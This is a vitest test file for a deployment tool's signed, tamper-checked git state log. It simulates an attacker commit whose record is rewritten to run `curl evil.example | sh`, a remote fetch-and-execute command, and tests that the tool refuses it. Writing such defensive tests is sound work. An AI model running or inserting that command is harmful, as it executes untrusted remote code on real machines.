import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import {
  loadStateSigning,
  openStateLog,
  type OrbitStateLog,
  type StateSigning,
} from '../../src/state/index.js';
import { isOrbitError, type OrbitError } from '../../src/util/errors.js';
import { pushTamperedRecord } from '../support/state-tamper.js';
import { deployment, gitOut, tempRepo } from './helpers.js';
import { recordPath } from '../../src/state/paths.js';

const open: OrbitStateLog[] = [];
afterEach(async () => {
  for (const l of open.splice(0)) await l.close();
});

async function refusal(p: Promise<unknown>): Promise<OrbitError> {
  const err = await p.then(
    (log) => {
      open.push(log as OrbitStateLog);
      return null;
    },
    (e: unknown) => e,
  );
  if (!isOrbitError(err)) throw new Error(`expected a refusal, got ${String(err)}`);
  return err;
}

const RECORD = recordPath('waffle-1').join('/');

/** The attack: a commit on top of Orbit's head whose record runs something else in reverse. */
const tamper = (dir: string, sign?: { key: string }): string =>
  pushTamperedRecord(
    dir,
    RECORD,
    (r) => {
      r.steps[0]!.reverse_action!.args = ['sh', '-c', 'curl evil.example | sh'];
    },
    { signingKey: sign?.key },
  );

function sshKey(name: string): { key: string; pub: string } {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'orbit-key-'));
  const key = path.join(dir, name);
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', name, '-f', key]);
  return { key, pub: fs.readFileSync(`${key}.pub`, 'utf8').trim() };
}

function allowedSigners(...keys: { pub: string }[]): string {
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'orbit-signers-')), 'allowed_signers');
  fs.writeFileSync(file, keys.map((k, i) => `orbit-${i}@example.com namespaces="git" ${k.pub}\n`).join(''));
  return file;
}

async function writeDeployment(dir: string, signing?: StateSigning): Promise<void> {
  const log = await openStateLog({ dir, signing });
  for (const e of deployment('waffle-1', ['a'])) await log.append(e);
  await log.close();
}

describe('state branch trust', () => {
  it('refuses a commit pushed after the last one Orbit wrote, naming it, in writers and readers', async () => {
    const dir = tempRepo();
    await writeDeployment(dir);
    const reader = await openStateLog({ dir, readOnly: true });
    open.push(reader);
    const foreign = tamper(dir);

    for (const readOnly of [false, true]) {
      const err = await refusal(openStateLog({ dir, readOnly }));
      expect(err.code).toBe('E_STATE_FOREIGN');
      expect(err.data).toMatchObject({ commit: foreign });
      expect(err.message).toContain(foreign.slice(0, 7));
    }
    // A reader opened before the push refuses at its next look, and never shows the tampered record.
    const err = await refusal(reader.deployment('waffle-1'));
    expect(err.code).toBe('E_STATE_FOREIGN');
    // Nothing was written or rewritten.
    expect(gitOut(dir, ['rev-parse', 'orbit/state']).trim()).toBe(foreign);
  });

  it('accepts the commit a writer killed between moving the branch and recording it had written', async () => {
    const dir = tempRepo();
    await writeDeployment(dir);
    // What a kill right after the compare-and-swap leaves: `.last` still names the parent.
    const parent = gitOut(dir, ['rev-parse', 'orbit/state~1']).trim();
    fs.writeFileSync(path.join(dir, '.git', 'orbit', 'orbit%2Fstate.last'), `${parent}\n`);
    const log = await openStateLog({ dir });
    open.push(log);
    expect((await log.deployment('waffle-1'))?.status).toBe('succeeded');
  });

  it('signs every commit so that git verify-commit accepts it, and refuses an unsigned one', async () => {
    const dir = tempRepo();
    const orbitKey = sshKey('orbit');
    const signers = allowedSigners(orbitKey);
    const signing = loadStateSigning({ keyFile: orbitKey.key, allowedSignersFile: signers });
    await writeDeployment(dir, signing);

    const shas = gitOut(dir, ['rev-list', 'orbit/state']).trim().split('\n');
    expect(shas.length).toBe(4);
    for (const sha of shas)
      gitOut(dir, [
        '-c',
        'gpg.format=ssh',
        '-c',
        `gpg.ssh.allowedSignersFile=${signers}`,
        'verify-commit',
        sha,
      ]);

    // A second Orbit sharing the branch (failover), with no `.last` of its own, verifies all of it.
    fs.rmSync(path.join(dir, '.git', 'orbit'), { recursive: true });
    const reader = await openStateLog({ dir, readOnly: true, signing });
    await reader.close();

    const foreign = tamper(dir);
    const err = await refusal(openStateLog({ dir, readOnly: true, signing }));
    expect(err.code).toBe('E_STATE_FOREIGN');
    expect(err.data).toMatchObject({ commit: foreign });
  });

  it('refuses a commit signed by a key that is not an allowed signer', async () => {
    const dir = tempRepo();
    const orbitKey = sshKey('orbit');
    const signers = allowedSigners(orbitKey);
    const signing = loadStateSigning({ keyFile: orbitKey.key, allowedSignersFile: signers });
    await writeDeployment(dir, signing);

    const foreign = tamper(dir, { key: sshKey('mallory').key });
    // git itself sees a good signature by an unknown key.
    expect(() =>
      gitOut(dir, [
        '-c',
        'gpg.format=ssh',
        '-c',
        `gpg.ssh.allowedSignersFile=${signers}`,
        'verify-commit',
        foreign,
      ]),
    ).toThrow();
    const err = await refusal(openStateLog({ dir, signing }));
    expect(err.code).toBe('E_STATE_FOREIGN');
    expect(err.data).toMatchObject({
      commit: foreign,
      reason: expect.stringContaining('not in the allowed signers'),
    });
  });

  it('accepts the commits of the other Orbit of a failover pair, signed by its key', async () => {
    const dir = tempRepo();
    const a = sshKey('a');
    const b = sshKey('b');
    const signers = allowedSigners(a, b);
    await writeDeployment(dir, loadStateSigning({ keyFile: a.key, allowedSignersFile: signers }));
    // B's own `.last` is behind: A wrote after it.
    const first = gitOut(dir, ['rev-parse', 'orbit/state~2']).trim();
    fs.writeFileSync(path.join(dir, '.git', 'orbit', 'orbit%2Fstate.last'), `${first}\n`);
    fs.rmSync(path.join(dir, '.git', 'orbit', 'orbit%2Fstate.pending'));
    const log = await openStateLog({
      dir,
      signing: loadStateSigning({ keyFile: b.key, allowedSignersFile: signers }),
    });
    open.push(log);
    expect((await log.deployment('waffle-1'))?.status).toBe('succeeded');
  });

  it('accepts unsigned history up to the configured point, and signed commits after it', async () => {
    const dir = tempRepo();
    await writeDeployment(dir);
    const since = gitOut(dir, ['rev-parse', 'orbit/state']).trim();
    const key = sshKey('orbit');
    const files = { keyFile: key.key, allowedSignersFile: allowedSigners(key) };
    const log = await openStateLog({ dir, signing: loadStateSigning(files) });
    for (const e of deployment('waffle-2', ['a'], { previous: 'waffle-1' })) await log.append(e);
    await log.close();
    fs.rmSync(path.join(dir, '.git', 'orbit'), { recursive: true });

    const err = await refusal(openStateLog({ dir, readOnly: true, signing: loadStateSigning(files) }));
    expect(err.code).toBe('E_STATE_FOREIGN');
    const reader = await openStateLog({
      dir,
      readOnly: true,
      signing: loadStateSigning({ ...files, signedSince: since }),
    });
    open.push(reader);
    expect((await reader.service('waffle'))?.current).toBe('waffle-2');
  });

  it('refuses a writer whose key its own readers would not accept', async () => {
    const dir = tempRepo();
    const signing = loadStateSigning({
      keyFile: sshKey('a').key,
      allowedSignersFile: allowedSigners(sshKey('b')),
    });
    expect((await refusal(openStateLog({ dir, signing }))).code).toBe('E_STATE_SIGNERS');
    const noKey = loadStateSigning({ allowedSignersFile: allowedSigners(sshKey('b')) });
    expect((await refusal(openStateLog({ dir, signing: noKey }))).code).toBe('E_STATE_SIGNERS');
  });
});
